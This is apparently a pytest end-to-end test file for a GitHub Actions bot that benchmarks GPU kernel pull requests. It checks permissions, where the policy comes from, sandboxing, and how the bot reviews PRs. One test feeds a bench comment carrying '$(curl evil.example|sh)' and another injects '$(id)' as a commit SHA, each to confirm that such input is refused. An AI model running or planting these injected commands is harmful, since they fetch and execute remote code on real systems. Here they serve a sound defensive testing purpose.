"""End to end: the ``kernel-review review`` CLI in each mode against the fake GitHub server,
on a real git repository holding the fixture rewrite (CUDA/HIP base, Triton head)."""

from __future__ import annotations

import functools
import importlib.util
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from bot import gitutil
from bot.cli import main
from bot.contracts.evidence import Evidence, ShapeLine, SweepEvidence
from bot.contracts.results import ResultsFile
from bot.forge.sticky import marker_sha
from bot.jobs.report import MAX_RESULTS_FILES
from tests.fake_github import BOT, FakeGitHub
from tests.paths import DATA, ROOT

EVENTS = DATA / "events"
FIXTURE = ROOT / "kernels_fixture"
PR = 42
WORKFLOW = ".github/workflows/kernel-review.yml"  # the workflow file the jobs run in


def _official(dest: Path) -> tuple[Path, str, str] | None:
    """The repository from kernels_fixture's own builder, when it exists and its policy holds."""
    try:
        from kernels_fixture.build_repo import build_fixture_repo
    except ImportError:
        return None
    fx = build_fixture_repo(dest)
    try:
        from bot.policy.load import load_policy

        gitutil.git(fx.path, "checkout", "-q", fx.base_sha)
        load_policy(Path(fx.path))
    except Exception:
        return None
    finally:
        gitutil.git(fx.path, "checkout", "-q", fx.head_sha)
    return Path(fx.path), fx.base_sha, fx.head_sha


def _build_repo(dest: Path) -> tuple[Path, str, str]:
    """The fixture rewrite in a real git repository: a CUDA/HIP base commit, a Triton head."""
    official = _official(dest.parent / "official")
    if official is not None:
        return official
    repo = gitutil.init_repo(dest)
    (repo / ".github").mkdir()
    policy = (FIXTURE / "repo_files" / "kernel-review.toml").read_text()
    # matmul's served shapes are (M, N, K), not one tensor: keep the two elementwise kernels
    policy = policy[: policy.index('[[kernels]]\nname = "matmul"')]
    (repo / ".github" / "kernel-review.toml").write_text(policy)
    shutil.copy(FIXTURE / "repo_files" / "pyproject.base.toml", repo / "pyproject.toml")
    shutil.copytree(
        FIXTURE / "toyops_base", repo / "toyops", ignore=shutil.ignore_patterns("__pycache__")
    )
    shutil.copytree(FIXTURE / "toyops" / "csrc", repo / "toyops" / "csrc")
    base = gitutil.commit_all(repo, "toyops with CUDA and HIP kernels")
    shutil.rmtree(repo / "toyops")
    shutil.copytree(
        FIXTURE / "toyops", repo / "toyops", ignore=shutil.ignore_patterns("__pycache__")
    )
    shutil.copy(FIXTURE / "repo_files" / "pyproject.head.toml", repo / "pyproject.toml")
    head = gitutil.commit_all(repo, "Rewrite the kernels in Triton")
    return repo, base, head


@pytest.fixture(scope="module")
def fixture_repo(tmp_path_factory):
    return _build_repo(tmp_path_factory.mktemp("fixture") / "toyops")


def load_commit(fake: FakeGitHub, repo: Path, sha: str) -> None:
    for path, text in _commit_files(str(repo), gitutil.rev_parse(repo, sha)):
        fake.put_file(sha, path, text)


@functools.cache
def _commit_files(repo: str, sha: str) -> tuple[tuple[str, str], ...]:
    """The text files of commit ``sha``, read once per process: a commit's files never change,
    and every test's fake GitHub loads the same two (two git processes a file, about 0.13 CPU-s
    a test)."""
    files = ((path, gitutil.show_file(repo, sha, path)) for path in gitutil.list_files(repo, sha))
    return tuple((path, text) for path, text in files if text is not None)


@pytest.fixture
def gh(fixture_repo):
    repo, base, head = fixture_repo
    with FakeGitHub() as fake:
        load_commit(fake, repo, base)
        load_commit(fake, repo, head)
        fake.add_pull(
            PR,
            base_sha=base,
            head_sha=head,
            author="alice",
            head_ref="triton-rewrite",
            diff=gitutil.diff_text(repo, base, head),
        )
        fake.permissions.update({"maintainer": "write", "stranger": "read", "alice": "write"})
        yield fake


class Run:
    """One job: the environment GitHub Actions gives the step, and what it leaves behind."""

    def __init__(
        self,
        fake: FakeGitHub,
        tmp: Path,
        monkeypatch,
        event_name: str,
        payload: dict,
        *,
        run_id: int = 555,
        **inputs: str,
    ):
        self.fake, self.run_id, self.event_name = fake, run_id, event_name
        self.dir = tmp
        tmp.mkdir(parents=True, exist_ok=True)
        self.event = tmp / "event.json"
        self.event.write_text(json.dumps(payload))
        self.output = tmp / "output.txt"
        self.summary = tmp / "summary.md"
        self.results = tmp / "results"
        env = {
            "GITHUB_EVENT_NAME": event_name,
            "GITHUB_EVENT_PATH": str(self.event),
            "GITHUB_TOKEN": inputs.pop("token", "bot-token"),
            "GITHUB_API_URL": fake.api_url,
            "GITHUB_REPOSITORY": fake.repo,
            "GITHUB_SERVER_URL": "https://ghe.example",
            "GITHUB_RUN_ID": str(run_id),
            "GITHUB_WORKFLOW_REF": f"{fake.repo}/{WORKFLOW}@refs/heads/main",
            "GITHUB_OUTPUT": str(self.output),
            "GITHUB_STEP_SUMMARY": str(self.summary),
            "INPUT_RESULTS_PATH": str(self.results),
            "KERNEL_REVIEW_REQUEST_SPACING_S": "0,0",
        }
        for key in (
            "INPUT_HEAD_SHA",
            "INPUT_VENDOR",
            "INPUT_SHARD",
            "INPUT_POLICY_PATH",
            "INPUT_BOT_LOGIN",
            "INPUT_TOKEN",
            "INPUT_HISTORY_PATH",
            "INPUT_HISTORY_BRANCH",
            "INPUT_RUNNER_ISOLATION",
        ):
            monkeypatch.delenv(key, raising=False)
        for key, value in {**env, **{f"INPUT_{k.upper()}": v for k, v in inputs.items()}}.items():
            monkeypatch.setenv(key, value)

    def __call__(self, mode: str) -> int:
        return main(["job", mode])

    def outputs(self) -> dict[str, str]:
        if not self.output.exists():
            return {}
        return dict(
            line.split("=", 1) for line in self.output.read_text().splitlines() if "=" in line
        )

    def gate(self) -> dict:
        return json.loads((self.results / "gate.json").read_text())

    def keep(self, head_sha: str | None = None) -> None:
        """This run on GitHub, with what the workflow's last step uploads: the results folder
        (the gate's decision, every measure job's results, the review) as one artifact."""
        self.fake.add_workflow_run(
            self.run_id, event=self.event_name, status="completed", head_sha=head_sha
        )
        files = {
            str(p.relative_to(self.results)): p.read_bytes()
            for p in self.results.rglob("*")
            if p.is_file()
        }
        self.fake.add_artifact(self.run_id, "kernel-review-results", files)


def pr_event(action: str, base: str, head: str, **changes) -> dict:
    payload = json.loads((EVENTS / "pull_request.opened.json").read_text())
    payload["action"] = action
    payload["pull_request"]["base"]["sha"] = base
    payload["pull_request"]["head"]["sha"] = head
    for key, value in changes.items():
        payload["pull_request"][key] = value
    return payload


def comment_event(fake: FakeGitHub, author: str, body: str) -> dict:
    payload = json.loads((EVENTS / "issue_comment.created.bench.json").read_text())
    cid = fake.add_comment(PR, author, body)
    payload["comment"].update(id=cid, body=body)
    payload["comment"]["user"].update(login=author, type="User")
    return payload


def results_for(results_dir: Path, base: str, head: str, vendor: str, ratio: float) -> None:
    ev = Evidence(
        sweeps=(
            SweepEvidence(
                vendor=vendor,
                gpu="NVIDIA H200" if vendor == "nvidia" else "AMD MI300X",
                shapes=(
                    ShapeLine(
                        kernel="softmax",
                        shape=(4096, 4096),
                        dtype="float16",
                        verdict="SLOWER" if ratio > 1.05 else "SAME",
                        ratio=ratio,
                        ci_low=ratio - 0.01,
                        ci_high=ratio + 0.01,
                        base_us=100.0,
                        head_us=100.0 * ratio,
                        weight=10,
                    ),
                    ShapeLine(
                        kernel="softmax",
                        shape=(1823, 781),
                        dtype="float16",
                        verdict="SAME",
                        ratio=1.01,
                        ci_low=0.99,
                        ci_high=1.03,
                        base_us=12.0,
                        head_us=12.1,
                    ),
                ),
                geomean_ratio=ratio,
            ),
        )
    )
    write_results(results_dir, base, head, vendor, ev)


def write_results(results_dir: Path, base: str, head: str, vendor: str, ev: Evidence) -> None:
    """One measure job's results file, as the report job downloads it."""
    results_dir.mkdir(parents=True, exist_ok=True)
    out = ResultsFile(head_sha=head, base_sha=base, vendor=vendor, evidence=ev)
    (results_dir / f"results-{vendor}-1of1.json").write_text(out.model_dump_json())


def bot_comments(fake: FakeGitHub) -> list[dict]:
    return [c for c in fake.comments_on(PR) if c["user"]["login"] == BOT]


def test_measure_is_refused_on_a_runner_that_cannot_confine_the_code(
    gh, fixture_repo, tmp_path, monkeypatch, capsys
):
    from checks.procs.sandbox import DISPOSABLE_ENV

    _, base, head = fixture_repo
    event = pr_event("opened", base, head)
    assert Run(gh, tmp_path / "plan", monkeypatch, "pull_request", event)("plan") == 0
    measure = Run(gh, tmp_path / "plan", monkeypatch, "pull_request", event, vendor="nvidia")
    monkeypatch.setenv("PATH", str(tmp_path / "no-bwrap-here"))
    monkeypatch.delenv(DISPOSABLE_ENV, raising=False)
    capsys.readouterr()
    assert measure("measure") == 2
    err = capsys.readouterr().err
    assert "this runner cannot confine the measured code, so it is not run" in err
    assert "bwrap (bubblewrap) is not installed" in err
    assert "runner-isolation: disposable" in err and "kernel-review doctor" in err
    assert not list(measure.results.glob("results-*.json"))
    # a typo in the input is an error, not a silent choice
    monkeypatch.setenv("INPUT_RUNNER_ISOLATION", "disposible")
    assert measure("measure") == 2
    assert "runner-isolation 'disposible' is not sandbox or disposable" in capsys.readouterr().err


def test_pull_request_plan_measure_report_then_push_updates_the_same_comment(
    gh, fixture_repo, tmp_path, monkeypatch, capsys
):
    repo, base, head = fixture_repo
    run = Run(gh, tmp_path / "plan", monkeypatch, "pull_request", pr_event("opened", base, head))
    assert run("plan") == 0
    out = run.outputs()
    assert out["run"] == "true" and out["head-sha"] == head and out["pr-number"] == str(PR)
    assert json.loads(out["vendors"]) == ["nvidia", "amd"]
    gate = run.gate()
    assert {k["name"] for k in gate["plan"]["kernels"]} >= {"softmax"}
    assert gate["policy_source"] == f".github/kernel-review.toml@{base[:12]}"
    assert not any(m != "GET" for m, _ in gh.requests)  # the gate writes nothing to GitHub

    # measure on a runner without the measurement engine: a clear error, not a traceback
    measure = Run(
        gh,
        tmp_path / "plan",
        monkeypatch,
        "pull_request",
        pr_event("opened", base, head),
        vendor="nvidia",
    )
    if importlib.util.find_spec("checks.measure") is None:
        assert measure("measure") == 2
        assert "no measurement engine" in capsys.readouterr().err

    results_for(run.results, base, head, "nvidia", 1.08)
    report = Run(gh, tmp_path / "plan", monkeypatch, "pull_request", pr_event("opened", base, head))
    assert report("report") == 0
    [comment] = bot_comments(gh)
    assert marker_sha(comment["body"]) == head
    assert "Kernel review" in comment["body"] and "Request changes" in comment["body"]
    assert "no results came back from the amd runner" in comment["body"]
    assert report.outputs()["verdict"] == "request_changes"
    [status] = gh.statuses[head]
    assert status["state"] == "failure" and status["context"] == "kernel-review"
    assert status["target_url"] == "https://ghe.example/octo/kernels/actions/runs/555"
    assert "Per-shape results" in report.summary.read_text()

    # a second push: the same comment is updated, never a second one
    new_head = gitutil.git(
        repo, "commit-tree", f"{head}^{{tree}}", "-p", head, "-m", "touch"
    ).strip()
    load_commit(gh, repo, new_head)
    gh.push(PR, new_head, diff=gitutil.diff_text(repo, base, new_head))
    results_for(tmp_path / "push" / "results", base, new_head, "nvidia", 1.0)
    results_for(tmp_path / "push" / "results", base, new_head, "amd", 1.0)
    again = Run(
        gh, tmp_path / "push", monkeypatch, "pull_request", pr_event("synchronize", base, new_head)
    )
    assert again("plan") == 0 and again("report") == 0
    [updated] = bot_comments(gh)
    assert updated["id"] == comment["id"] and marker_sha(updated["body"]) == new_head
    assert "no results came back" not in updated["body"]

    # the stale run for the old head finishes last: it does not overwrite the newer review
    late = Run(gh, tmp_path / "plan", monkeypatch, "pull_request", pr_event("opened", base, head))
    assert late("report") == 0
    [still] = bot_comments(gh)
    assert marker_sha(still["body"]) == new_head


@pytest.fixture
def policy_reads(monkeypatch) -> list[str]:
    """Every read of a policy file from here on (the revision it was read from), wherever the
    job reads it: the contents API, git or a folder."""
    from bot.policy import load

    reads: list[str] = []
    locate = load.locate_policy

    def counted(revision, path=None):
        reads.append(revision.label)
        return locate(revision, path)

    monkeypatch.setattr(load, "locate_policy", counted)
    return reads


def test_the_policy_is_read_once_per_pull_request(
    gh, fixture_repo, tmp_path, monkeypatch, policy_reads
):
    """A pull request's plan, measure and report jobs: the gate reads the base policy; the
    measure job's context and the report take it, and the plan, from the gate's gate.json."""
    from bot import app
    from bot.policy import load
    from bot.revision import GitRevision
    from checks.context import MeasureContext

    repo, base, head = fixture_repo
    written = load.find_policy(GitRevision(repo, base))
    assert written is not None
    reads = policy_reads
    reads.clear()  # the test's own read above is no job's
    event = pr_event("opened", base, head)
    plan = Run(gh, tmp_path, monkeypatch, "pull_request", event)
    assert plan("plan") == 0 and len(reads) == 1

    # the measure job as the engine opens it (its checks are other tests' concern)
    measure = Run(
        gh, tmp_path, monkeypatch, "pull_request", event, vendor="nvidia",
        runner_isolation="disposable", head_sha=head,
    )  # fmt: skip
    monkeypatch.chdir(repo)
    contexts = []

    def context_only(plan, **job):
        with MeasureContext.open(plan, **job) as ctx:
            contexts.append((ctx.policy, ctx.limits))
        return Evidence()

    env = app.ActionEnv.from_environ(os.environ)
    assert app.measure_mode(env, measure_fn=context_only) == 0
    [(policy, limits)] = contexts
    assert policy == written[0] and policy.model_fields_set == written[0].model_fields_set
    assert limits.max_gpu_seconds == written[0].limits.max_gpu_seconds
    assert list(measure.results.glob("results-nvidia-*.json"))

    report = Run(gh, tmp_path, monkeypatch, "pull_request", event, head_sha=head)
    assert report("report") == 0
    assert report.outputs()["verdict"] != "none" and bot_comments(gh)
    assert len(reads) == 1, reads  # the gate's read alone
    policy_gets = [p for m, p in gh.requests if "kernel-review.toml" in p]
    assert len(policy_gets) == 1


def test_a_bench_comment_s_jobs_read_the_policy_once(
    gh, fixture_repo, tmp_path, monkeypatch, policy_reads
):
    """/bench: the gate reads the base policy; the ack and the report take it from gate.json."""
    _, base, head = fixture_repo
    payload = comment_event(gh, "maintainer", "/bench softmax --vendor nvidia")
    run = Run(gh, tmp_path, monkeypatch, "issue_comment", payload, head_sha=head)
    assert run("plan") == 0 and run.outputs()["run"] == "true" and len(policy_reads) == 1
    assert run("ack") == 0
    assert [r["content"] for r in gh.reactions[payload["comment"]["id"]]] == ["eyes", "rocket"]
    results_for(run.results, base, head, "nvidia", 1.0)
    assert run("report") == 0 and run.outputs()["verdict"] != "none"
    assert len(policy_reads) == 1, policy_reads


def test_the_report_refuses_a_gate_decision_of_another_head(
    gh, fixture_repo, tmp_path, monkeypatch, capsys
):
    _, base, head = fixture_repo
    event = pr_event("opened", base, head)
    assert Run(gh, tmp_path, monkeypatch, "pull_request", event)("plan") == 0
    report = Run(gh, tmp_path, monkeypatch, "pull_request", event, head_sha="e" * 40)
    capsys.readouterr()
    assert report("report") != 0
    err = capsys.readouterr().err
    assert f"is for octo/kernels #{PR} at {head[:12]}, not this run's" in err
    assert "eeeeeeeeeeee" in err and "kernel-review-gate" in err
    assert not bot_comments(gh)
    (report.results / "gate.json").unlink()
    assert report("report") != 0
    assert "cannot read the gate's decision" in capsys.readouterr().err


def test_bench_by_writer_is_pinned_acknowledged_and_reported(
    gh, fixture_repo, tmp_path, monkeypatch
):
    _, base, head = fixture_repo
    payload = comment_event(
        gh, "maintainer", "Please measure.\n/bench softmax --vendor nvidia quick"
    )
    cid = payload["comment"]["id"]
    plan = Run(gh, tmp_path, monkeypatch, "issue_comment", payload)
    assert plan("plan") == 0
    out = plan.outputs()
    assert (
        out["run"] == "true"
        and out["head-sha"] == head
        and json.loads(out["vendors"]) == ["nvidia"]
    )
    gate = plan.gate()
    assert gate["command"]["mode"] == "quick" and [k["name"] for k in gate["plan"]["kernels"]] == [
        "softmax"
    ]

    # a push lands after the command: the ack and the report stay on the pinned SHA
    gh.push(PR, "f" * 40)
    ack = Run(gh, tmp_path, monkeypatch, "issue_comment", payload, head_sha=head)
    assert ack("ack") == 0
    assert [r["content"] for r in gh.reactions[cid]] == ["eyes", "rocket"]
    reply = [c for c in bot_comments(gh) if marker_sha(c["body"]) is None][-1]
    assert head[:12] in reply["body"] and "/bench softmax --vendor nvidia quick" in reply["body"]

    results_for(plan.results, base, head, "nvidia", 1.0)
    report = Run(gh, tmp_path, monkeypatch, "issue_comment", payload, head_sha=head)
    assert report("report") == 0
    [sticky] = [c for c in bot_comments(gh) if marker_sha(c["body"])]
    assert marker_sha(sticky["body"]) == head


def test_too_many_results_files_are_refused_in_the_review_not_dropped_silently(
    gh, fixture_repo, tmp_path, monkeypatch
):
    _, base, head = fixture_repo
    event = pr_event("opened", base, head)
    run = Run(gh, tmp_path, monkeypatch, "pull_request", event)
    assert run("plan") == 0
    results_for(run.results, base, head, "nvidia", 1.0)
    for i in range(MAX_RESULTS_FILES + 1):  # what measured code could add to the artifact
        (run.results / f"extra-{i}.json").write_text("{}")
    report = Run(gh, tmp_path, monkeypatch, "pull_request", event)
    assert report("report") == 0
    [comment] = bot_comments(gh)
    assert marker_sha(comment["body"]) == head
    body = comment["body"]
    assert "results were refused" in body
    assert f"{MAX_RESULTS_FILES + 2} results files, more than {MAX_RESULTS_FILES}" in body
    assert report.outputs()["verdict"] != "approve"


def test_bench_by_reader_gets_a_reply_and_nothing_runs(gh, tmp_path, monkeypatch):
    payload = comment_event(gh, "stranger", "/bench softmax")
    plan = Run(gh, tmp_path, monkeypatch, "issue_comment", payload)
    assert plan("plan") == 0
    assert plan.outputs()["run"] == "false" and "needs write" in plan.gate()["refusal"]
    ack = Run(gh, tmp_path, monkeypatch, "issue_comment", payload)
    assert ack("ack") == 0
    assert [r["content"] for r in gh.reactions[payload["comment"]["id"]]] == ["eyes", "confused"]
    [reply] = bot_comments(gh)
    assert "has read permission" in reply["body"] and "needs write" in reply["body"]
    report = Run(gh, tmp_path, monkeypatch, "issue_comment", payload)
    assert report("report") == 0
    assert len(bot_comments(gh)) == 1  # no review for a refused command


def test_hostile_bench_is_refused_as_data(gh, tmp_path, monkeypatch):
    payload = comment_event(gh, "maintainer", "/bench softmax $(curl evil.example|sh) <!-- x -->")
    run = Run(gh, tmp_path, monkeypatch, "issue_comment", payload)
    assert run("plan") == 0 and run.outputs()["run"] == "false"
    assert run("ack") == 0
    [reply] = bot_comments(gh)
    body = reply["body"]
    # the comment's own "<!-- x -->" is not echoed: the one HTML comment is the bot's marker
    assert "command substitution" in body and "<!-- x" not in body
    assert body.count("<!--") == 1 and body.endswith(
        "<!-- kernel-review:refused actor=maintainer -->"
    )
    assert "softmax" in body and "vector\\_add" in body  # lists what is allowed


def test_policy_comes_from_the_base_branch(gh, fixture_repo, tmp_path, monkeypatch):
    _, _, head = fixture_repo
    loosened = gh.blobs[head][".github/kernel-review.toml"].replace(
        'bench_permission = "write"', 'bench_permission = "read"'
    )
    assert "read" in loosened and loosened != gh.blobs[head][".github/kernel-review.toml"]
    gh.put_file(head, ".github/kernel-review.toml", loosened)
    payload = comment_event(gh, "stranger", "/bench")
    run = Run(gh, tmp_path, monkeypatch, "issue_comment", payload)
    assert run("plan") == 0
    assert "needs write" in run.gate()["refusal"]


def test_fork_pull_request_waits_for_bench_and_workflow_run_reports(
    gh, fixture_repo, tmp_path, monkeypatch
):
    _, base, head = fixture_repo
    gh.add_pull(
        PR,
        base_sha=base,
        head_sha=head,
        author="mallory",
        head_ref="triton-rewrite",
        head_repo="mallory/kernels",
        diff=gh.diffs[PR],
    )
    payload = pr_event("opened", base, head)
    payload["pull_request"]["head"]["repo"]["full_name"] = "mallory/kernels"
    plan = Run(gh, tmp_path, monkeypatch, "pull_request", payload, token="read-token")
    assert plan("plan") == 0
    assert plan.outputs()["run"] == "false" and "fork" in plan.gate()["note"]

    event = json.loads((EVENTS / "workflow_run.completed.fork.json").read_text())
    event["workflow_run"]["head_sha"] = head
    report = Run(gh, tmp_path / "wr", monkeypatch, "workflow_run", event)
    assert report("report") == 0
    [sticky] = bot_comments(gh)
    assert marker_sha(sticky["body"]) == head and "fork" in sticky["body"]


def test_ignored_event_needs_no_token(tmp_path, monkeypatch):
    with FakeGitHub() as fake:
        payload = json.loads((EVENTS / "issue_comment.edited.bench.json").read_text())
        run = Run(fake, tmp_path, monkeypatch, "issue_comment", payload, token="")
        monkeypatch.delenv("GITHUB_TOKEN")
        assert run("plan") == 0 and run.outputs()["run"] == "false"
        assert "edited" in run.gate()["ignored"] and fake.requests == []


def test_errors_are_messages_not_tracebacks(tmp_path, monkeypatch, capsys):
    with FakeGitHub() as fake:
        run = Run(fake, tmp_path, monkeypatch, "pull_request", {"action": "opened"})
        assert run("plan") == 3  # GitHubError
        err = capsys.readouterr().err
        assert "the event payload has no pull_request" in err and "Traceback" not in err
        monkeypatch.setenv("INPUT_HEAD_SHA", "$(id)")
        assert run("report") == 3
        assert "not a 40-hex commit SHA" in capsys.readouterr().err


def test_no_policy_on_base_fails_the_check(gh, fixture_repo, tmp_path, monkeypatch, capsys):
    _, base, head = fixture_repo
    del gh.blobs[base][".github/kernel-review.toml"]
    run = Run(gh, tmp_path, monkeypatch, "pull_request", pr_event("opened", base, head))
    assert run("plan") == 2
    assert "no policy on the base branch" in capsys.readouterr().err


def test_cli_runs_as_a_process(tmp_path):
    payload = json.loads((EVENTS / "pull_request.closed.json").read_text())
    (tmp_path / "event.json").write_text(json.dumps(payload))
    env = {
        "PATH": "/usr/bin:/bin",
        "GITHUB_EVENT_NAME": "pull_request",
        "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
        "GITHUB_OUTPUT": str(tmp_path / "out"),
        "INPUT_RESULTS_PATH": str(tmp_path / "r"),
    }
    proc = subprocess.run(
        [sys.executable, "-m", "bot", "job", "plan"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        cwd=ROOT,
    )
    assert proc.returncode == 0, proc.stderr
    assert "closed" in proc.stdout and "run=false" in (tmp_path / "out").read_text()


@pytest.mark.parametrize(
    ("inputs", "message"),
    [
        ({"vendor": "intel"}, "is not nvidia or amd"),
        ({"vendor": "amd", "shard": "3/2"}, "is not I/N"),
    ],
)
def test_measure_checks_its_inputs_before_anything_runs(
    tmp_path, monkeypatch, capsys, inputs, message
):
    with FakeGitHub() as fake:
        run = Run(fake, tmp_path, monkeypatch, "pull_request", {}, **inputs)
        assert run("measure") == 2
        assert message in capsys.readouterr().err


def test_measure_without_a_gate_decision_says_what_to_download(tmp_path, monkeypatch, capsys):
    with FakeGitHub() as fake:
        run = Run(fake, tmp_path, monkeypatch, "pull_request", {}, vendor="nvidia")
        assert run("measure") == 2
        assert "download the gate job's artifact" in capsys.readouterr().err
